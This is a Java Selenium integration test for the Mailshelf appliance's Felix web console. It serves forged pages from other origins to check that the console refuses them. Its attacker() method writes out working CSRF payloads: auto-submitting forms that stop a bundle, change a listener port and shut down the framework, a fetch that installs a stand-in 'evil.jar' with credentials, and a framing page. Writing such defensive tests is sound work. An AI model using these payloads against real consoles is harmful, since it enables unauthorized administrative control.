package org.mailshelf.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;
import static org.junit.Assume.assumeTrue;

import java.io.File;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.logging.Level;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.After;
import org.junit.Before;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.logging.LoggingPreferences;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

import com.sun.net.httpserver.HttpServer;

/**
 * The console as an admin's browser sees it (Debian's Chromium under Selenium, against the assembled appliance):
 * the admin logs in with the form, and the console's own Stop/Start buttons and a configuration save work; then
 * the same browser opens pages from two other origins — another loopback address (another site) and another port
 * of the console's own address (the same site, so the browser does send the session cookie) — that try to stop
 * a bundle, rewrite a listener's configuration, install a bundle by form and by fetch, shut the framework down,
 * and frame the console. Nothing may change.
 */
public class ConsoleBrowserIT {

    private static final String PASSWORD = "browser-Admin-7";
    private static final String CHROMIUM = "/usr/bin/chromium";
    private static final String CHROMEDRIVER = "/usr/bin/chromedriver";

    @Rule
    public TemporaryFolder tmp = new TemporaryFolder();

    private Appliance appliance;
    private WebDriver browser;
    private final List<HttpServer> attackers = new ArrayList<>();

    @Before
    public void start() throws Exception {
        boolean present = new File(CHROMIUM).canExecute() && new File(CHROMEDRIVER).canExecute();
        if (System.getenv("CI") == null) {
            assumeTrue("needs Debian's chromium and chromium-driver (apt-get install chromium chromium-driver)",
                    present);
        }
        assertTrue("CI must install chromium and chromium-driver", present);
        appliance = new Appliance(Path.of(System.getProperty("mailshelf.appliance")), tmp.getRoot().toPath());
        appliance.start(PASSWORD);
        appliance.awaitReady(60_000);

        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM);
        options.addArguments("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--user-data-dir=" + tmp.newFolder("chromium"));
        LoggingPreferences logs = new LoggingPreferences();
        logs.enable(LogType.BROWSER, Level.ALL);
        options.setCapability("goog:loggingPrefs", logs);
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File(CHROMEDRIVER)).usingAnyFreePort().build();
        browser = new ChromeDriver(service, options);
        browser.manage().timeouts().pageLoadTimeout(Duration.ofSeconds(30));
    }

    @After
    public void stop() throws Exception {
        if (appliance != null) { // what the appliance saw, for a failure's report
            Path audit = appliance.home.resolve("data/logs/audit.log");
            System.out.println(Files.exists(audit) ? Files.readString(audit) : "no audit log");
            appliance.output.forEach(System.out::println);
        }
        if (browser != null) {
            browser.quit();
        }
        attackers.forEach(s -> s.stop(0));
        if (appliance != null) {
            appliance.close();
        }
    }

    private String console(String path) {
        return "http://127.0.0.1:" + appliance.http + path;
    }

    private WebDriverWait waiting() {
        return new WebDriverWait(browser, Duration.ofSeconds(20));
    }

    private String curl(String... args) throws Exception {
        List<String> command = new ArrayList<>(List.of("curl", "-s", "--max-time", "20", "-u", "admin:" + PASSWORD));
        command.addAll(List.of(args));
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue("curl did not finish", p.waitFor(30, TimeUnit.SECONDS));
        return out;
    }

    /** What the console's bundle list says of one bundle, asked as a script would. */
    private String bundleState(String symbolicName) throws Exception {
        String json = curl(console("/system/console/bundles/" + symbolicName + ".json"));
        int state = json.indexOf("\"state\":\"");
        return state < 0 ? "absent" : json.substring(state + 9, json.indexOf('"', state + 9));
    }

    private long bundleId(String symbolicName) throws Exception {
        String json = curl(console("/system/console/bundles/" + symbolicName + ".json"));
        int id = json.indexOf("\"id\":");
        return Long.parseLong(json.substring(id + 5).replaceFirst("[^0-9].*", ""));
    }

    /** The saved value of a configuration property as the console's config manager reports it. */
    private String configValue(String pid, String property) throws Exception {
        String json = curl("-X", "POST", console("/system/console/configMgr/" + pid));
        int at = json.indexOf("\"" + property + "\"");
        assertTrue(json, at >= 0);
        Matcher value = Pattern.compile("\"value\":\"?([^\",}]*)").matcher(json);
        assertTrue(json, value.find(at));
        return value.group(1); // a string as File Install set it, a number once the console saved it
    }

    private void logIn() {
        browser.get(console("/system/console/bundles"));
        waiting().until(ExpectedConditions.urlContains("/system/console/login"));
        browser.findElement(By.name("password")).sendKeys(PASSWORD);
        browser.findElement(By.id("login")).click();
        waiting().until(ExpectedConditions.urlToBe(console("/system/console/bundles")));
    }

    @Test
    public void theAdminsOwnConsoleWorksAndForeignPagesChangeNothing() throws Exception {
        logIn();
        long pop3 = bundleId("org.mailshelf.pop3");
        // the console's own Stop and Start buttons
        By row = By.id("entry" + pop3);
        waiting().until(ExpectedConditions.visibilityOfElementLocated(row));
        browser.findElement(By.cssSelector("#entry" + pop3 + " td:nth-child(6) ul li:nth-child(2)")).click();
        waiting().until(ExpectedConditions.textToBePresentInElementLocated(
                By.cssSelector("#entry" + pop3 + " td:nth-child(5)"), "Resolved"));
        assertEquals("Resolved", bundleState("org.mailshelf.pop3"));
        Ports.awaitClosed(appliance.pop3, 10_000);
        browser.findElement(By.cssSelector("#entry" + pop3 + " td:nth-child(6) ul li:nth-child(1)")).click();
        waiting().until(ExpectedConditions.textToBePresentInElementLocated(
                By.cssSelector("#entry" + pop3 + " td:nth-child(5)"), "Active"));
        Ports.awaitAccepting(appliance.pop3, 10_000);

        // a configuration save through the console's own dialog
        browser.get(console("/system/console/configMgr/org.mailshelf.admin.console"));
        WebElement timeout = waiting().until(ExpectedConditions.visibilityOfElementLocated(
                By.name("session.idle.timeout")));
        timeout.clear();
        timeout.sendKeys("1700");
        browser.findElement(By.xpath(
                "//div[contains(@class,'ui-dialog-buttonpane')]//button[normalize-space()='Save']")).click();
        waiting().until(d -> {
            try {
                return "1700".equals(configValue("org.mailshelf.admin.console", "session.idle.timeout"));
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
        assertCspKeptByConsolePages();

        String imapPid = "org.mailshelf.imap~default";
        String imapPort = configValue(imapPid, "port");
        int hijackedPort = Ports.free();
        for (String origin : new String[] {"127.0.0.2", "127.0.0.1"}) {
            String base = attacker(origin, pop3, imapPid, hijackedPort);
            submitForged(base + "/stop.html");
            submitForged(base + "/config.html");
            submitForged(base + "/install-form.html");
            browser.get(base + "/install-fetch.html");
            waiting().until(ExpectedConditions.titleIs("sent"));
            submitForged(base + "/shutdown.html");
            browser.get(base + "/frame.html");
            Thread.sleep(1_000);
            browser.switchTo().frame("console");
            String framed = browser.getPageSource();
            browser.switchTo().defaultContent();
            assertFalse(origin + " framed the console:\n" + framed, framed.contains("Mailshelf console")
                    || framed.contains("Apache Felix Web Console"));

            assertEquals(origin, "Active", bundleState("org.mailshelf.pop3"));
            assertEquals(origin, imapPort, configValue(imapPid, "port"));
            assertEquals(origin, "absent", bundleState("evil.bundle"));
            assertTrue(origin, Ports.accepting(appliance.imap));
            assertFalse(origin, Ports.accepting(hijackedPort));
        }
        // the framework is still up, and the admin still logged in
        browser.get(console("/system/console/mailshelf-audit"));
        String audit = browser.findElement(By.id("audit")).getText();
        assertTrue(audit, audit.contains("action=bundle.stop target=\"org.mailshelf.pop3 (id " + pop3
                + ")\" result=\"refused: from http://127.0.0.2:"));
        assertTrue(audit, audit.contains("result=\"refused: from http://127.0.0.1:"));
        assertTrue(audit, audit.contains("action=framework.stop"));
        assertTrue(audit, audit.contains("action=config.update target=" + imapPid));
        assertTrue(audit, audit.contains("action=bundle.stop target=\"org.mailshelf.pop3 (id " + pop3
                + ")\" result=\"ok (200)\""));
        assertTrue(audit, audit.contains("action=config.update target=org.mailshelf.admin.console result=\"ok"));

        browser.get(console("/system/console/logout"));
        waiting().until(ExpectedConditions.urlContains("/system/console/login"));
        assertTrue(browser.getPageSource().contains("Logged out."));
        browser.get(console("/system/console/bundles"));
        waiting().until(ExpectedConditions.urlContains("/system/console/login"));
    }

    /** Opens a page that submits a form to the console and waits until the console has answered it. */
    private void submitForged(String page) {
        browser.get(page);
        waiting().until(d -> d.getCurrentUrl().startsWith(console("/")));
        String answer = browser.getPageSource();
        assertTrue(page + " was answered with:\n" + answer, answer.contains("Refused")
                || answer.contains("Log in first"));
    }

    private void assertCspKeptByConsolePages() {
        List<String> violations = new ArrayList<>();
        for (LogEntry entry : browser.manage().logs().get(LogType.BROWSER)) {
            if (entry.getMessage().contains("Content Security Policy")) {
                violations.add(entry.getMessage());
            }
        }
        assertEquals("the console's own pages broke the policy", List.of(), violations);
    }

    /** Serves the forged pages from another origin; returns that origin. */
    private String attacker(String address, long bundleId, String imapPid, int hijackedPort) throws IOException {
        HttpServer server = HttpServer.create(new InetSocketAddress(address, 0), 0);
        attackers.add(server);
        String target = console("/system/console");
        Path evil = TestBundles.minimal(tmp.getRoot().toPath().resolve("evil-" + address + ".jar"), "evil.bundle");
        Map<String, String> pages = Map.of(
                "/stop.html", form(target + "/bundles/" + bundleId, "application/x-www-form-urlencoded",
                        "<input name='action' value='stop'>"),
                "/config.html", form(target + "/configMgr/" + imapPid, "application/x-www-form-urlencoded",
                        "<input name='apply' value='true'><input name='action' value='ajaxConfigManage'>"
                                + "<input name='propertylist' value='port'><input name='port' value='"
                                + hijackedPort + "'>"),
                "/shutdown.html", form(target + "/vmstat", "application/x-www-form-urlencoded",
                        "<input name='shutdown_timer' value='true'><input name='shutdown_type' value='Stop'>"),
                "/install-form.html", "<!DOCTYPE html><form id='f' method='post' enctype='multipart/form-data' "
                        + "action='" + target + "/bundles'><input name='action' value='install'>"
                        + "<input name='bundlestart' value='start'><input type='file' name='bundlefile' id='file'>"
                        + "</form><script>fetch('/evil.jar').then(r => r.blob()).then(b => {"
                        + "const t = new DataTransfer(); t.items.add(new File([b], 'evil.jar'));"
                        + "document.getElementById('file').files = t.files; document.getElementById('f').submit();"
                        + "});</script>",
                "/install-fetch.html", "<!DOCTYPE html><title>loading</title><script>"
                        + "fetch('/evil.jar').then(r => r.blob()).then(b => { const f = new FormData();"
                        + "f.append('action', 'install'); f.append('bundlestart', 'start');"
                        + "f.append('bundlefile', new File([b], 'evil.jar'));"
                        + "return fetch('" + target + "/bundles', {method: 'POST', mode: 'no-cors', "
                        + "credentials: 'include', body: f}); }).finally(() => document.title = 'sent');</script>",
                "/frame.html", "<!DOCTYPE html><iframe name='console' src='" + target
                        + "/bundles' width='800' height='600'></iframe>");
        server.createContext("/", exchange -> {
            String path = exchange.getRequestURI().getPath();
            byte[] body = path.equals("/evil.jar") ? Files.readAllBytes(evil)
                    : pages.getOrDefault(path, "not here").getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", path.endsWith(".jar") ? "application/java-archive"
                    : "text/html;charset=utf-8");
            exchange.sendResponseHeaders(pages.containsKey(path) || path.equals("/evil.jar") ? 200 : 404,
                    body.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(body);
            }
        });
        server.start();
        return "http://" + address + ":" + server.getAddress().getPort();
    }

    private static String form(String action, String type, String fields) {
        return "<!DOCTYPE html><form id='f' method='post' enctype='" + type + "' action='" + action + "'>" + fields
                + "</form><script>document.getElementById('f').submit()</script>";
    }
}
